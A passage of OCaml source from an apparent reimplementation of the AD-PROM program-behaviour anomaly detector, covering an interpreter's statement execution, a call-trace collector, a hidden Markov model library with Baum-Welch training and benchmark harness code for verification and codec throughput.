and exec_stmt ctx env caller (stmt : Ast.stmt) =
  Istate.tick ctx.st;
  match stmt with
  | Ast.Let (x, e) | Ast.Assign (x, e) -> Hashtbl.replace env x (eval ctx env caller e)
  | Ast.Expr e -> ignore (eval ctx env caller e)
  | Ast.If (cond, then_, else_) ->
      if Rvalue.truthy (eval ctx env caller cond) then exec_block ctx env caller then_
      else exec_block ctx env caller else_
  | Ast.While (cond, body) -> (
      let rec loop () =
        Istate.tick ctx.st;
        if Rvalue.truthy (eval ctx env caller cond) then begin
          (try exec_block ctx env caller body with Continue_exc -> ());
          loop ()
        end
      in
      try loop () with Break_exc -> ())
  | Ast.For (init, cond, step, body) -> (
      exec_stmt ctx env caller init;
      let rec loop () =
        Istate.tick ctx.st;
        if Rvalue.truthy (eval ctx env caller cond) then begin
          (try exec_block ctx env caller body with Continue_exc -> ());
          exec_stmt ctx env caller step;
          loop ()
        end
      in
      try loop () with Break_exc -> ())
  | Ast.Return None -> raise (Return_exc Rvalue.null)
  | Ast.Return (Some e) -> raise (Return_exc (eval ctx env caller e))
  | Ast.Break -> raise Break_exc
  | Ast.Continue -> raise Continue_exc

and exec_block ctx env caller stmts = List.iter (exec_stmt ctx env caller) stmts

let run ?(collector = Collector.null) ?(patches = []) ?(max_steps = 1_000_000)
    ?query_rewriter ~analysis ~engine tc =
  let st = Istate.create ?query_rewriter ~engine ~max_steps tc in
  let ctx = { analysis; st; collector; patches } in
  let status =
    match Ast.find_func analysis.Analyzer.program "main" with
    | None -> Error "program has no main function"
    | Some main -> (
        try
          ignore (call_user ctx "main" main []);
          Ok ()
        with
        | Istate.Program_exit | Return_exc _ -> Ok ()
        | Istate.Error msg -> Error msg
        | Break_exc | Continue_exc -> Error "break/continue outside a loop")
  in
  {
    stdout = Buffer.contents st.Istate.stdout;
    files = Istate.written st;
    system_calls = List.rev st.Istate.system_calls;
    queries = Istate.queries st;
    query_log = Istate.query_log st;
    tainted_files = List.rev st.Istate.tainted_paths;
    responses = Buffer.contents st.Istate.responses;
    steps = st.Istate.steps;
    leaked_values = st.Istate.leaked_values;
    status;
  }

let collect_trace ?patches ?max_steps ?query_rewriter ~analysis ~engine tc =
  let collector, trace = Collector.adprom () in
  (* with_obs is free unless the log threshold is lowered to Debug *)
  let collector = Collector.with_obs collector in
  let outcome =
    Adprom_obs.Trace.with_span "runtime.collect_trace"
      ~attrs:(fun () -> [ ("case", tc.Testcase.name) ])
      (fun () ->
        run ~collector ?patches ?max_steps ?query_rewriter ~analysis ~engine tc)
  in
  (trace (), outcome)

type event = {
  symbol : Analysis.Symbol.t;
  caller : string;
  block : int;
}

type trace = event array

type t = {
  emit :
    symbol:Analysis.Symbol.t ->
    caller:string ->
    block:int ->
    args:Rvalue.t list ->
    unit;
}

let null = { emit = (fun ~symbol:_ ~caller:_ ~block:_ ~args:_ -> ()) }

let adprom () =
  let events = ref [] in
  let count = ref 0 in
  let emit ~symbol ~caller ~block ~args:_ =
    events := { symbol; caller; block } :: !events;
    incr count
  in
  let trace () = Array.of_list (List.rev !events) in
  ({ emit }, trace)

let with_obs ?session ?ring inner =
  let emit ~symbol ~caller ~block ~args =
    inner.emit ~symbol ~caller ~block ~args;
    if Adprom_obs.Log.enabled Adprom_obs.Log.Debug then begin
      let fields =
        [
          ("symbol", Adprom_obs.Log.Str (Analysis.Symbol.to_string symbol));
          ("caller", Adprom_obs.Log.Str caller);
          ("block", Adprom_obs.Log.Int block);
        ]
      in
      let fields =
        match session with
        | Some s -> ("session", Adprom_obs.Log.Int s) :: fields
        | None -> fields
      in
      let fields =
        match Adprom_obs.Trace.current_trace_id () with
        | Some tid -> ("trace_id", Adprom_obs.Log.Int tid) :: fields
        | None -> fields
      in
      Adprom_obs.Log.emit ?ring ~fields Adprom_obs.Log.Debug ~scope:"collector"
        "library call"
    end
  in
  { emit }

let symbols_of_trace trace = Array.map (fun e -> e.symbol) trace

let pp_trace ppf trace =
  Format.fprintf ppf "@[<v>";
  Array.iter
    (fun e -> Format.fprintf ppf "%s @@ %a@," e.caller Analysis.Symbol.pp e.symbol)
    trace;
  Format.fprintf ppf "@]"

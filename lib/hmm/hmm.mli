(** Discrete hidden Markov models.

    Covers the three classic problems the paper relies on (Sec. II):
    evaluation (scaled forward algorithm), decoding (Viterbi) and
    learning (Baum-Welch), for observation sequences over a finite
    symbol alphabet. Replaces the Jahmm library of the paper's
    implementation. *)

type t = {
  n : int;  (** number of hidden states *)
  m : int;  (** number of observation symbols *)
  a : Mlkit.Matrix.t;  (** [n x n] transition probabilities, rows sum to 1 *)
  b : Mlkit.Matrix.t;  (** [n x m] emission probabilities, rows sum to 1 *)
  pi : float array;  (** initial state distribution *)
}

val create : a:Mlkit.Matrix.t -> b:Mlkit.Matrix.t -> pi:float array -> t
(** @raise Invalid_argument on inconsistent dimensions, negative
    entries, or rows that do not sum to 1 (within tolerance). *)

val random : rng:Mlkit.Rng.t -> n:int -> m:int -> t
(** Random initialization — the Rand-HMM baseline of Sec. V-D. *)

val uniform : n:int -> m:int -> t

val validate : t -> (unit, string) result

val log_likelihood : t -> int array -> float
(** [log P(O | λ)] by the scaled forward algorithm; [neg_infinity] when
    the sequence is impossible. Observations outside [\[0, m)] raise
    [Invalid_argument]. *)

val per_symbol_score : t -> int array -> float
(** [log_likelihood / length]: the detection score compared against the
    threshold. [neg_infinity] on impossible sequences; 0.0 on the empty
    sequence. *)

module Compiled : sig
  (** Compiled evaluation for the detection hot path (Sec. IV-D): the
      same scaled forward pass with the transition table flattened, the
      emission table transposed (one observation's column contiguous)
      and the forward rows preallocated, so steady-state scoring
      allocates nothing. Scores are bit-for-bit equal to
      {!log_likelihood} / {!per_symbol_score}; a compiled scorer is not
      thread-safe (it owns its scratch rows) — use one per domain. *)

  type model := t

  type t

  val of_model : model -> t
  val model : t -> model

  val log_likelihood_sub : t -> int array -> pos:int -> len:int -> float
  (** [log P(obs.(pos..pos+len-1) | λ)], allocation-free; bit-for-bit
      equal to {!Hmm.log_likelihood} on the slice. @raise
      Invalid_argument on an out-of-bounds slice or an observation
      outside [\[0, m)]. *)

  val per_symbol_score_sub : t -> int array -> pos:int -> len:int -> float

  val log_likelihood : t -> int array -> float
  val per_symbol_score : t -> int array -> float
end

val sample : rng:Mlkit.Rng.t -> t -> int -> int array
(** Generate an observation sequence of the given length from the
    model's distribution. *)

val step_surprisals : t -> int array -> float array
(** Per-step negative log-likelihood contributions:
    [step_surprisals t o].(i) is [-log P(o_i | o_0..o_{i-1})] — large
    values mark the surprising positions of an anomalous sequence.
    Impossible steps yield [infinity]. *)

val forward : t -> int array -> float array array * float array
(** Scaled forward variables and per-step scaling factors [c.(t)];
    [log P(O|λ) = -Σ log c.(t)]. Exposed for tests. *)

val backward : t -> int array -> float array -> float array array
(** Scaled backward variables using the forward scaling factors. *)

val viterbi : t -> int array -> int array * float
(** Most likely state path and its log probability. *)

val baum_welch_step : t -> (int array * float) list -> t * float
(** One EM iteration over weighted sequences (weight = multiplicity of
    the deduplicated window). Returns the re-estimated model and the
    {e previous} model's total weighted log-likelihood. Emission and
    transition rows are floored by a small epsilon and renormalized so
    unseen events keep non-zero mass. Sequences impossible under the
    current model are skipped. *)

val fit :
  ?max_iterations:int ->
  ?tolerance:float ->
  t ->
  (int array * float) list ->
  t * float list
(** Iterate [baum_welch_step] until the total log-likelihood improves by
    less than [tolerance] (default 1e-4 per unit weight) or
    [max_iterations] (default 50). Returns the trained model and the
    log-likelihood trajectory. *)

module Matrix = Mlkit.Matrix
module Rng = Mlkit.Rng

type t = {
  n : int;
  m : int;
  a : Matrix.t;
  b : Matrix.t;
  pi : float array;
}

let row_stochastic m =
  let rows, cols = Matrix.dims m in
  let ok = ref true in
  for i = 0 to rows - 1 do
    let s = ref 0.0 in
    for j = 0 to cols - 1 do
      let v = Matrix.get m i j in
      if v < -.1e-12 then ok := false;
      s := !s +. v
    done;
    if Float.abs (!s -. 1.0) > 1e-6 then ok := false
  done;
  !ok

let validate t =
  let an, am = Matrix.dims t.a in
  let bn, bm = Matrix.dims t.b in
  if an <> t.n || am <> t.n then Error "A must be n x n"
  else if bn <> t.n || bm <> t.m then Error "B must be n x m"
  else if Array.length t.pi <> t.n then Error "pi must have n entries"
  else if not (row_stochastic t.a) then Error "A rows must sum to 1"
  else if not (row_stochastic t.b) then Error "B rows must sum to 1"
  else begin
    let s = Array.fold_left ( +. ) 0.0 t.pi in
    if Array.exists (fun p -> p < -.1e-12) t.pi then Error "pi must be non-negative"
    else if Float.abs (s -. 1.0) > 1e-6 then Error "pi must sum to 1"
    else Ok ()
  end

let create ~a ~b ~pi =
  let n, _ = Matrix.dims a in
  let _, m = Matrix.dims b in
  let t = { n; m; a; b; pi } in
  match validate t with
  | Ok () -> t
  | Error msg -> invalid_arg ("Hmm.create: " ^ msg)

let random_stochastic_row rng k =
  let row = Array.init k (fun _ -> 0.05 +. Rng.float rng 1.0) in
  let s = Array.fold_left ( +. ) 0.0 row in
  Array.map (fun v -> v /. s) row

let random ~rng ~n ~m =
  let a_rows = Array.init n (fun _ -> random_stochastic_row rng n) in
  let b_rows = Array.init n (fun _ -> random_stochastic_row rng m) in
  create ~a:(Matrix.of_arrays a_rows) ~b:(Matrix.of_arrays b_rows)
    ~pi:(random_stochastic_row rng n)

let uniform ~n ~m =
  let a = Matrix.init n n (fun _ _ -> 1.0 /. float_of_int n) in
  let b = Matrix.init n m (fun _ _ -> 1.0 /. float_of_int m) in
  create ~a ~b ~pi:(Array.make n (1.0 /. float_of_int n))

let check_observations t obs =
  Array.iter
    (fun o ->
      if o < 0 || o >= t.m then
        invalid_arg (Printf.sprintf "Hmm: observation %d outside alphabet of size %d" o t.m))
    obs

(* Scaled forward pass: [alpha.(t).(i)] is normalized per step and
   [scale.(t)] holds the pre-normalization sums, so
   [log P(O) = sum (log scale.(t))]. A zero scale means the prefix is
   impossible; remaining steps stay zero. *)
let forward t obs =
  check_observations t obs;
  let n = t.n and m = t.m in
  let adata = t.a.Matrix.data and bdata = t.b.Matrix.data in
  let len = Array.length obs in
  let alpha = Array.make_matrix len n 0.0 in
  let scale = Array.make len 0.0 in
  if len > 0 then begin
    let row0 = alpha.(0) and o0 = obs.(0) in
    for i = 0 to n - 1 do
      row0.(i) <- t.pi.(i) *. Array.unsafe_get bdata ((i * m) + o0)
    done;
    scale.(0) <- Array.fold_left ( +. ) 0.0 row0;
    if scale.(0) > 0.0 then
      for i = 0 to n - 1 do
        row0.(i) <- row0.(i) /. scale.(0)
      done;
    for step = 1 to len - 1 do
      if scale.(step - 1) > 0.0 then begin
        let prev = alpha.(step - 1) and cur = alpha.(step) in
        (* row-major streaming over A: cur_j = sum_i prev_i * a_ij *)
        for i = 0 to n - 1 do
          let pi_ = Array.unsafe_get prev i in
          if pi_ > 0.0 then begin
            let base = i * n in
            for j = 0 to n - 1 do
              Array.unsafe_set cur j
                (Array.unsafe_get cur j +. (pi_ *. Array.unsafe_get adata (base + j)))
            done
          end
        done;
        let o = obs.(step) in
        let total = ref 0.0 in
        for j = 0 to n - 1 do
          let v = Array.unsafe_get cur j *. Array.unsafe_get bdata ((j * m) + o) in
          Array.unsafe_set cur j v;
          total := !total +. v
        done;
        scale.(step) <- !total;
        if !total > 0.0 then
          for j = 0 to n - 1 do
            Array.unsafe_set cur j (Array.unsafe_get cur j /. !total)
          done
      end
    done
  end;
  (alpha, scale)

(* Compiled evaluation: the same scaled forward pass, restricted to the
   evaluation problem, with every table flattened and every buffer
   preallocated so the steady-state scoring path allocates nothing. The
   arithmetic mirrors [forward]/[log_likelihood] operation for
   operation (same summation order, same guards), so compiled scores
   are bit-for-bit equal to the reference ones. *)
module Compiled = struct
  type model = t

  type t = {
    model : model;
    n : int;
    m : int;
    a : float array;  (* n x n, row-major (shared with the model) *)
    bt : float array;  (* m x n: emissions transposed, so the column of
                          one observation symbol is contiguous *)
    pi : float array;
    mutable cur : float array;  (* scratch forward rows, reused *)
    mutable nxt : float array;
  }

  let of_model (model : model) =
    let n = model.n and m = model.m in
    let bdata = model.b.Matrix.data in
    let bt = Array.make (m * n) 0.0 in
    for i = 0 to n - 1 do
      for o = 0 to m - 1 do
        bt.((o * n) + i) <- Array.unsafe_get bdata ((i * m) + o)
      done
    done;
    {
      model;
      n;
      m;
      a = model.a.Matrix.data;
      bt;
      pi = model.pi;
      cur = Array.make n 0.0;
      nxt = Array.make n 0.0;
    }

  let model c = c.model

  (* [log P(obs.(pos .. pos+len-1) | λ)], allocation-free. Exactly
     [log_likelihood] on the slice: [neg_infinity] as soon as a scaling
     factor vanishes, otherwise the in-order sum of [log c_t]. *)
  let log_likelihood_sub c obs ~pos ~len =
    if pos < 0 || len < 0 || pos + len > Array.length obs then
      invalid_arg "Hmm.Compiled: slice out of bounds";
    for k = pos to pos + len - 1 do
      let o = Array.unsafe_get obs k in
      if o < 0 || o >= c.m then
        invalid_arg
          (Printf.sprintf "Hmm: observation %d outside alphabet of size %d" o c.m)
    done;
    if len = 0 then 0.0
    else begin
      let n = c.n in
      let cur = c.cur in
      let o0 = obs.(pos) in
      let base0 = o0 * n in
      for i = 0 to n - 1 do
        Array.unsafe_set cur i (c.pi.(i) *. Array.unsafe_get c.bt (base0 + i))
      done;
      let scale0 = ref 0.0 in
      for i = 0 to n - 1 do
        scale0 := !scale0 +. Array.unsafe_get cur i
      done;
      if !scale0 <= 0.0 then neg_infinity
      else begin
        for i = 0 to n - 1 do
          Array.unsafe_set cur i (Array.unsafe_get cur i /. !scale0)
        done;
        let loglik = ref (0.0 +. log !scale0) in
        let impossible = ref false in
        let step = ref 1 in
        while (not !impossible) && !step < len do
          let cur = c.cur and nxt = c.nxt in
          Array.fill nxt 0 n 0.0;
          for i = 0 to n - 1 do
            let pi_ = Array.unsafe_get cur i in
            if pi_ > 0.0 then begin
              let base = i * n in
              for j = 0 to n - 1 do
                Array.unsafe_set nxt j
                  (Array.unsafe_get nxt j +. (pi_ *. Array.unsafe_get c.a (base + j)))
              done
            end
          done;
          let o = obs.(pos + !step) in
          let bbase = o * n in
          let total = ref 0.0 in
          for j = 0 to n - 1 do
            let v = Array.unsafe_get nxt j *. Array.unsafe_get c.bt (bbase + j) in
            Array.unsafe_set nxt j v;
            total := !total +. v
          done;
          if !total <= 0.0 then impossible := true
          else begin
            loglik := !loglik +. log !total;
            for j = 0 to n - 1 do
              Array.unsafe_set nxt j (Array.unsafe_get nxt j /. !total)
            done;
            c.cur <- nxt;
            c.nxt <- cur;
            incr step
          end
        done;
        if !impossible then neg_infinity else !loglik
      end
    end

  let per_symbol_score_sub c obs ~pos ~len =
    if len = 0 then 0.0 else log_likelihood_sub c obs ~pos ~len /. float_of_int len

  let log_likelihood c obs =
    log_likelihood_sub c obs ~pos:0 ~len:(Array.length obs)

  let per_symbol_score c obs =
    per_symbol_score_sub c obs ~pos:0 ~len:(Array.length obs)
end

let sample ~rng t len =
  let obs = Array.make len 0 in
  if len > 0 then begin
    let state = ref (Rng.choose_weighted rng t.pi) in
    for i = 0 to len - 1 do
      if i > 0 then state := Rng.choose_weighted rng (Matrix.row t.a !state);
      obs.(i) <- Rng.choose_weighted rng (Matrix.row t.b !state)
    done
  end;
  obs

let step_surprisals t obs =
  let _, scale = forward t obs in
  Array.map (fun s -> if s > 0.0 then -.log s else infinity) scale

let log_likelihood t obs =
  if Array.length obs = 0 then 0.0
  else
    let _, scale = forward t obs in
    if Array.exists (fun s -> s <= 0.0) scale then neg_infinity
    else Array.fold_left (fun acc s -> acc +. log s) 0.0 scale

let per_symbol_score t obs =
  let len = Array.length obs in
  if len = 0 then 0.0 else log_likelihood t obs /. float_of_int len

(* Scaled backward pass sharing the forward scaling factors, so
   gamma/xi can be formed from products of the two without overflow. *)
let backward t obs scale =
  let n = t.n and m = t.m in
  let adata = t.a.Matrix.data and bdata = t.b.Matrix.data in
  let len = Array.length obs in
  let beta = Array.make_matrix len n 0.0 in
  if len > 0 then begin
    let last = len - 1 in
    for i = 0 to n - 1 do
      beta.(last).(i) <- (if scale.(last) > 0.0 then 1.0 /. scale.(last) else 0.0)
    done;
    let bb = Array.make n 0.0 in
    for step = last - 1 downto 0 do
      if scale.(step) > 0.0 then begin
        let next = beta.(step + 1) and cur = beta.(step) in
        let o = obs.(step + 1) in
        for j = 0 to n - 1 do
          bb.(j) <- Array.unsafe_get bdata ((j * m) + o) *. Array.unsafe_get next j
        done;
        let inv = 1.0 /. scale.(step) in
        for i = 0 to n - 1 do
          let base = i * n in
          let acc = ref 0.0 in
          for j = 0 to n - 1 do
            acc := !acc +. (Array.unsafe_get adata (base + j) *. Array.unsafe_get bb j)
          done;
          cur.(i) <- !acc *. inv
        done
      end
    done
  end;
  beta

let viterbi t obs =
  check_observations t obs;
  let len = Array.length obs in
  if len = 0 then ([||], 0.0)
  else begin
    let safe_log x = if x > 0.0 then log x else neg_infinity in
    let delta = Array.make_matrix len t.n neg_infinity in
    let psi = Array.make_matrix len t.n 0 in
    for i = 0 to t.n - 1 do
      delta.(0).(i) <- safe_log t.pi.(i) +. safe_log (Matrix.get t.b i obs.(0))
    done;
    for step = 1 to len - 1 do
      for j = 0 to t.n - 1 do
        let best = ref neg_infinity and best_i = ref 0 in
        for i = 0 to t.n - 1 do
          let v = delta.(step - 1).(i) +. safe_log (Matrix.get t.a i j) in
          if v > !best then begin
            best := v;
            best_i := i
          end
        done;
        delta.(step).(j) <- !best +. safe_log (Matrix.get t.b j obs.(step));
        psi.(step).(j) <- !best_i
      done
    done;
    let last = len - 1 in
    let best_final = Mlkit.Stats.argmax delta.(last) in
    let path = Array.make len 0 in
    path.(last) <- best_final;
    for step = last - 1 downto 0 do
      path.(step) <- psi.(step + 1).(path.(step + 1))
    done;
    (path, delta.(last).(best_final))
  end

let smoothing_epsilon = 1e-6

let normalize_with_floor row =
  let k = Array.length row in
  let s = Array.fold_left ( +. ) 0.0 row in
  if s <= 0.0 then Array.make k (1.0 /. float_of_int k)
  else
    let denom = s +. (smoothing_epsilon *. float_of_int k) in
    Array.map (fun v -> (v +. smoothing_epsilon) /. denom) row

let baum_welch_step t weighted =
  let a_acc = Array.make_matrix t.n t.n 0.0 in
  let b_acc = Array.make_matrix t.n t.m 0.0 in
  let pi_acc = Array.make t.n 0.0 in
  let total_loglik = ref 0.0 in
  (* Reused scratch buffers: the EM inner loops must not allocate per
     time step, or GC dominates training on large programs. *)
  let gamma_u = Array.make t.n 0.0 in
  let bb = Array.make t.n 0.0 in
  let accumulate (obs, weight) =
    let len = Array.length obs in
    if len > 0 then begin
      let alpha, scale = forward t obs in
      if not (Array.exists (fun s -> s <= 0.0) scale) then begin
        total_loglik :=
          !total_loglik +. (weight *. Array.fold_left (fun acc s -> acc +. log s) 0.0 scale);
        let beta = backward t obs scale in
        (* gamma, normalized explicitly per step *)
        for step = 0 to len - 1 do
          let s = ref 0.0 in
          for i = 0 to t.n - 1 do
            let u = alpha.(step).(i) *. beta.(step).(i) in
            gamma_u.(i) <- u;
            s := !s +. u
          done;
          if !s > 0.0 then
            for i = 0 to t.n - 1 do
              let g = gamma_u.(i) /. !s in
              b_acc.(i).(obs.(step)) <- b_acc.(i).(obs.(step)) +. (weight *. g);
              if step = 0 then pi_acc.(i) <- pi_acc.(i) +. (weight *. g)
            done
        done;
        (* xi, normalized explicitly per step; two passes (sum, then
           accumulate) instead of materializing the n x n table *)
        let n = t.n and m = t.m in
        let adata = t.a.Matrix.data and bdata = t.b.Matrix.data in
        for step = 0 to len - 2 do
          let next = beta.(step + 1) and cur = alpha.(step) in
          let o = obs.(step + 1) in
          for j = 0 to n - 1 do
            bb.(j) <-
              Array.unsafe_get bdata ((j * m) + o) *. Array.unsafe_get next j
          done;
          let s = ref 0.0 in
          for i = 0 to n - 1 do
            let ai = Array.unsafe_get cur i in
            if ai > 0.0 then begin
              let base = i * n in
              let acc = ref 0.0 in
              for j = 0 to n - 1 do
                acc := !acc +. (Array.unsafe_get adata (base + j) *. Array.unsafe_get bb j)
              done;
              s := !s +. (ai *. !acc)
            end
          done;
          if !s > 0.0 then
            for i = 0 to n - 1 do
              let coef = weight *. Array.unsafe_get cur i /. !s in
              if coef > 0.0 then begin
                let row = a_acc.(i) in
                let base = i * n in
                for j = 0 to n - 1 do
                  Array.unsafe_set row j
                    (Array.unsafe_get row j
                    +. (coef *. Array.unsafe_get adata (base + j) *. Array.unsafe_get bb j))
                done
              end
            done
        done
      end
    end
  in
  List.iter accumulate weighted;
  let a' = Matrix.of_arrays (Array.map normalize_with_floor a_acc) in
  let b' = Matrix.of_arrays (Array.map normalize_with_floor b_acc) in
  let pi' = normalize_with_floor pi_acc in
  ({ t with a = a'; b = b'; pi = pi' }, !total_loglik)

let fit ?(max_iterations = 50) ?(tolerance = 1e-4) t weighted =
  let total_weight = List.fold_left (fun acc (_, w) -> acc +. w) 0.0 weighted in
  let scaled_tol = tolerance *. Float.max 1.0 total_weight in
  let rec loop model prev_ll history iter =
    if iter >= max_iterations then (model, List.rev history)
    else
      let ll_trace = ref nan in
      let model', ll =
        Adprom_obs.Trace.with_span "hmm.bw_iter"
          ~attrs:(fun () ->
            [
              ("iteration", string_of_int iter);
              ("log_likelihood", Printf.sprintf "%.6f" !ll_trace);
            ])
          (fun () ->
            let r = baum_welch_step model weighted in
            ll_trace := snd r;
            r)
      in
      let history = ll :: history in
      match prev_ll with
      | Some p when ll -. p < scaled_tol -> (model', List.rev history)
      | Some _ | None -> loop model' (Some ll) history (iter + 1)
  in
  Adprom_obs.Trace.with_span "hmm.fit"
    ~attrs:(fun () ->
      [
        ("sequences", string_of_int (List.length weighted));
        ("states", string_of_int t.n);
        ("symbols", string_of_int t.m);
      ])
    (fun () -> loop t None [] 0)

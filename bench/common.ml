(* Shared context for the benchmark harness: datasets and profiles are
   expensive, so experiments that need the same artifacts share them
   through lazies. *)

let smoke = ref false
(* --smoke: shrink the workloads so the suite fits in a CI smoke run;
   shapes stay, absolute numbers shrink *)

let time f =
  let t0 = Unix.gettimeofday () in
  let result = f () in
  (result, Unix.gettimeofday () -. t0)

let heading title =
  Printf.printf "\n================================================================\n";
  Printf.printf "%s\n" title;
  Printf.printf "================================================================\n%!"

(* Experiment-scale knobs: the paper's SIR subjects are bigger than a
   pure-OCaml Baum-Welch can chew in a benchmark run, so App4 gets a
   reduced round budget (shapes, not absolute numbers; see DESIGN.md). *)
let sir_params ~big =
  let base =
    (* The SIR experiments tolerate a small FP budget in exchange for
       recall, like the paper's Table VII (FP of 4-8 per app). *)
    {
      Adprom.Pipeline.adprom_params with
      Adprom.Profile.threshold_strategy = Adprom.Threshold.Quantile 0.0005;
    }
  in
  if big then { base with Adprom.Profile.max_rounds = 10; patience = 2 } else base

let rand_params_of params =
  { params with Adprom.Profile.init = Adprom.Profile.Init_random }

type trained = {
  dataset : Adprom.Pipeline.dataset;
  adprom : Adprom.Profile.t Lazy.t;
  cmarkov : Adprom.Profile.t Lazy.t;
  rand_hmm : Adprom.Profile.t Lazy.t;
  train_seconds : float ref;  (** wall time of the AD-PROM training *)
}

let prepare ?(big = false) app =
  let dataset = Adprom.Pipeline.collect app in
  let params = sir_params ~big in
  let train_seconds = ref 0.0 in
  {
    dataset;
    adprom =
      lazy
        (let profile, dt = time (fun () -> Adprom.Pipeline.train ~params dataset) in
         train_seconds := dt;
         profile);
    cmarkov =
      lazy
        (Adprom.Pipeline.train
           ~params:
             {
               Adprom.Pipeline.cmarkov_params with
               Adprom.Profile.max_rounds = params.Adprom.Profile.max_rounds;
             }
           dataset);
    rand_hmm = lazy (Adprom.Pipeline.train ~params:(rand_params_of params) dataset);
    train_seconds;
  }

let ca_hospital = lazy (prepare (Dataset.Ca_hospital.app ()))
let ca_banking = lazy (prepare (Dataset.Ca_banking.app ()))
let ca_supermarket = lazy (prepare (Dataset.Ca_supermarket.app ()))

let sir_app1 = lazy (prepare (Dataset.Sir.app1 ()))
let sir_app2 = lazy (prepare (Dataset.Sir.app2 ()))
let sir_app3 = lazy (prepare (Dataset.Sir.app3 ()))
let sir_app4 = lazy (prepare ~big:true (Dataset.Sir.app4 ()))

let sir_all () =
  [ ("App1", sir_app1); ("App2", sir_app2); ("App3", sir_app3); ("App4", sir_app4) ]

let ca_all () =
  [ ("App_h", ca_hospital); ("App_b", ca_banking); ("App_s", ca_supermarket) ]

(* Vet throughput: the full static verification pass — CFG build,
   dominator trees, natural loops, the may-uninit dataflow, per-argument
   taint and the whole-program checks — over generated programs of
   increasing size. Writes BENCH_vet.json for the CI artifact. *)

let sizes () = if !Common.smoke then [ 6; 12 ] else [ 6; 12; 24; 48 ]
let repeats () = if !Common.smoke then 5 else 20

type row = {
  functions : int;
  cfg_nodes : int;
  diagnostics : int;
  errors : int;
  millis_per_run : float;
}

let run () =
  Common.heading "vet: static verification throughput";
  Printf.printf "%-10s %10s %8s %8s %12s\n" "functions" "cfg nodes" "diags" "errors"
    "ms/run";
  let rows =
    List.map
      (fun functions ->
        let spec =
          {
            Dataset.Proggen.default with
            Dataset.Proggen.seed = 7;
            functions;
            statements_per_function = 12;
          }
        in
        let program = Applang.Parser.parse_program (Dataset.Proggen.generate spec) in
        let vet () =
          let cfgs = fst (Analysis.Cfg_build.build_program program) in
          ignore (Analysis.Taint.analyze cfgs);
          (cfgs, Analysis.Vet.check_program cfgs)
        in
        let n = repeats () in
        let (cfgs, diags), seconds =
          Common.time (fun () ->
              let result = ref (vet ()) in
              for _ = 2 to n do
                result := vet ()
              done;
              !result)
        in
        let cfg_nodes =
          List.fold_left
            (fun acc (_, cfg) -> acc + List.length (Analysis.Cfg.node_ids cfg))
            0 cfgs
        in
        let row =
          {
            functions;
            cfg_nodes;
            diagnostics = List.length diags;
            errors = List.length (Analysis.Diag.errors diags);
            millis_per_run = 1000.0 *. seconds /. float_of_int n;
          }
        in
        Printf.printf "%-10d %10d %8d %8d %12.2f\n%!" row.functions row.cfg_nodes
          row.diagnostics row.errors row.millis_per_run;
        row)
      (sizes ())
  in
  let oc = open_out "BENCH_vet.json" in
  Printf.fprintf oc "{\n  \"smoke\": %b,\n  \"rows\": [\n" !Common.smoke;
  List.iteri
    (fun i r ->
      Printf.fprintf oc
        "    {\"functions\": %d, \"cfg_nodes\": %d, \"diagnostics\": %d, \"errors\": \
         %d, \"millis_per_run\": %.3f}%s\n"
        r.functions r.cfg_nodes r.diagnostics r.errors r.millis_per_run
        (if i = List.length rows - 1 then "" else ","))
    rows;
  Printf.fprintf oc "  ]\n}\n";
  close_out oc;
  Printf.printf "wrote BENCH_vet.json\n"

(* The scale-out tier: wire codec showdown and 2-node cluster scaling.

   Two claims land in BENCH_cluster.json. First, the length-prefixed
   binary frame format beats the tab-separated text format by >= 5x on
   encode+decode throughput over the same mixed item stream (interning
   turns the Collector's endlessly repeated caller/symbol strings into
   one-byte back-references; decoding is byte arithmetic instead of
   split/int_of_string). Round-trip equality is asserted on both codecs
   before any rate is reported.

   Second, two serve nodes absorb a tenant burst a single node must
   shed. Nodes run a FIXED per-shard queue capacity — bounded queue
   memory is the daemon's operating constraint — and the burst is sized
   so one node's queue overflows and drops tenants at the door, while
   two nodes (double the aggregate capacity, sessions split by the
   consistent-hash ring) keep them. The figure of merit is accepted
   events/sec: events that made it into a detector queue, per second
   of the ingest window; the bar is >= 1.7x. This is a capacity
   result, not a parallelism result — it holds on one core.

   Verdict integrity is checked separately under ample capacity (no
   shedding anywhere): the merged 2-node summary must be bit-for-bit
   the single-node replay's — same session reports, verdict flags,
   IEEE-754 score bits and incident multiset. The nodes are forked
   BEFORE the parent runs its reference replay: a process that has
   spawned domains must not fork. *)

module Service = Adprom_service
module Transport = Service.Transport
module Frame = Service.Frame
module Server = Service.Server
module Cluster = Service.Cluster
module Daemon = Service.Daemon
module Replay = Service.Replay
module Alerts = Service.Alerts

let sessions_count () = if !Common.smoke then 16 else 64
let repeats () = if !Common.smoke then 2 else 4
let codec_rounds () = if !Common.smoke then 20 else 40
let capacity = 256 (* per-shard queue bound of the scaling runs *)

let workload () =
  let t = Lazy.force Common.ca_banking in
  let traces = List.map snd t.Common.dataset.Adprom.Pipeline.traces in
  let base = Array.of_list traces in
  let sessions =
    List.init (sessions_count ()) (fun i ->
        let tr = base.(i mod Array.length base) in
        Array.concat (List.init (repeats ()) (fun _ -> tr)))
  in
  let rng = Mlkit.Rng.create 4242 in
  (Lazy.force t.Common.adprom, Adprom.Sessions.interleave ~rng sessions)

(* --- codec showdown ---------------------------------------------------- *)

let items_of_stream stream =
  (* a mixed stream: the interleaved call events plus an executed-query
     record every 50 events, like a session that talks to the DBMS *)
  let items = ref [] in
  Array.iteri
    (fun i (ev : Adprom.Sessions.tagged) ->
      if i mod 50 = 49 then
        items :=
          Transport.Query
            {
              Transport.q_session = ev.Adprom.Sessions.session;
              rows = 2;
              sql = "SELECT name, balance FROM accounts WHERE id = 17";
            }
          :: !items;
      items := Transport.Call ev :: !items)
    stream;
  Array.of_list (List.rev !items)

let chunk = 65536

(* Fastest of [rounds] runs of [f]: the peak the codec sustains when
   the box isn't preempting or scaling us — the standard way to time a
   sub-millisecond kernel on a shared machine (one slow round must not
   tank the figure). One untimed warmup round heats the caches. *)
let best_of rounds f =
  f ();
  let best = ref infinity in
  for _ = 1 to rounds do
    let ((), s) = Common.time f in
    if s < !best then best := s
  done;
  !best

let codec_pass (module C : Transport.S) items rounds =
  (* The streaming shape the router and server actually run: encode
     into a connection buffer flushed at transport-size boundaries,
     decode 64 KiB reads and consume each chunk's items as they
     complete (they die in the minor heap, like the server's ingest
     loop). A fresh codec per round models a fresh connection. *)
  let bytes = Transport.encode_all (module C) items in
  (match Transport.decode_all (module C) bytes with
  | Ok back when back = items -> ()
  | Ok _ -> failwith (C.id ^ " round-trip diverged")
